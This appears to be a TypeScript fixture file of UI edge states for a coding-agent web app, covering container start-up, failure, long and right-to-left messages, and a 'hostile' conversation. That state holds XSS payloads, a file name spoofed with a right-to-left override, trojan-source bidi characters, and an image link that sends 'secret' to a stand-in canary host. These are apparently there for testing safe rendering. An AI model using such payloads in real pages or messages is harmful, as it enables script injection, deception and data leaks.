import type { ContainerStep } from '@codex-webapp/contracts/containers';
import { buildAnswer, buildContainer, buildMessage, buildPrompt, buildSession, show } from './script.ts';
import type { GalleryState } from './turn-states.ts';

const ask = () =>
  buildMessage({ text: 'The login test fails on CI since yesterday. Find out why and fix it.' });

const steps = (
  rows: readonly (readonly [ContainerStep['name'], ContainerStep['state'], string | null, number | null])[],
) => rows.map(([name, state, detail, tookMs]) => ({ name, state, detail, tookMs }));

/** What happens around a conversation, and what is hard to draw. */
export const edgeStates: Readonly<Record<string, () => GalleryState>> = {
  starting: () => ({
    conversation: show({
      session: buildSession({ status: 'stopped', containerStatus: 'creating' }),
      container: buildContainer({
        status: 'creating',
        isConnected: false,
        steps: steps([
          [
            'image',
            'running',
            'Step 9/24 : RUN apt-get install -y --no-install-recommends git ripgrep python3 curl',
            null,
          ],
          ['volume', 'waiting', null, null],
          ['network', 'waiting', null, null],
          ['create', 'waiting', null, null],
          ['start', 'waiting', null, null],
          ['connect', 'waiting', null, null],
        ]),
      }),
      prompts: [
        buildPrompt({ text: 'The login test fails on CI since yesterday. Find out why and fix it.' }),
      ],
    }),
  }),
  'start-failed': () => ({
    conversation: show({
      session: buildSession({ status: 'failed', containerStatus: 'error' }),
      container: buildContainer({
        status: 'error',
        isConnected: false,
        reason: 'Docker did not answer within 30 s. Is the engine running? Start it and try again.',
        steps: steps([
          ['image', 'done', null, 1_240],
          ['volume', 'done', null, 12],
          ['network', 'done', null, 148],
          ['create', 'done', null, 96],
          ['start', 'failed', 'connect ECONNREFUSED /var/run/docker.sock', 30_000],
          ['connect', 'waiting', null, null],
        ]),
      }),
    }),
  }),
  asleep: () => ({
    conversation: show({
      session: buildSession({ status: 'stopped', containerStatus: 'stopped' }),
      container: buildContainer({ status: 'stopped', isConnected: false }),
      messages: [
        ask(),
        buildAnswer({
          items: [{ type: 'text', id: 'm', text: 'Done: the clock is injected now, and the test passes.' }],
        }),
      ],
    }),
  }),
  archived: () => ({
    conversation: show({
      session: buildSession({ status: 'archived', archivedAt: '2026-11-20T10:00:00.000Z' }),
      messages: [ask()],
    }),
  }),
  hostile: () => ({
    conversation: show({
      messages: [
        buildMessage({ text: 'Run `rm\u202Egnp.exe` please' }),
        buildAnswer({
          items: [
            {
              type: 'text',
              id: 'm',
              text: '<script>alert(1)</script> <img src=x onerror=alert(1)>\n\n[click](javascript:alert(1)) · [data](data:text/html,x) · [real](https://example.com/docs) · ![pixel](https://canary.example/p.png?d=secret)\n\n```js\nif (admin\u202E) { /*\u2066 only admins \u2069*/ }\n```',
            },
          ],
        }),
      ],
    }),
  }),
  long: () => ({
    conversation: show({
      messages: [
        buildMessage({
          text: Array.from({ length: 60 }, (_, index) => `Line ${index + 1} of a long prompt`).join('\n'),
        }),
        buildAnswer({
          items: [
            {
              type: 'tool',
              id: 'c',
              kind: 'execute',
              title: '',
              command: 'cat bundle.min.js',
              status: 'completed',
              output: 'x'.repeat(32_000),
              truncated: true,
              exitCode: 0,
              durationMs: 12,
            },
            { type: 'text', id: 'm', text: `A line of a megabyte:\n\n${'word'.repeat(262_144)}` },
          ],
        }),
      ],
    }),
  }),
  rtl: () => ({
    conversation: show({
      messages: [
        buildMessage({ text: 'لماذا يفشل اختبار تسجيل الدخول؟' }),
        buildAnswer({
          items: [
            {
              type: 'text',
              id: 'm',
              text: 'الاختبار يجمّد الساعة، لكن `createToken` يقرأ الوقت الحقيقي.\n\n- أضفت `Clock`\n- الاختبارات ناجحة',
            },
          ],
        }),
      ],
    }),
  }),
  files: () => ({ conversation: show({ messages: [ask()] }), openFile: '' }),
  file: () => ({ conversation: show({ messages: [ask()] }), openFile: 'token.ts' }),
};
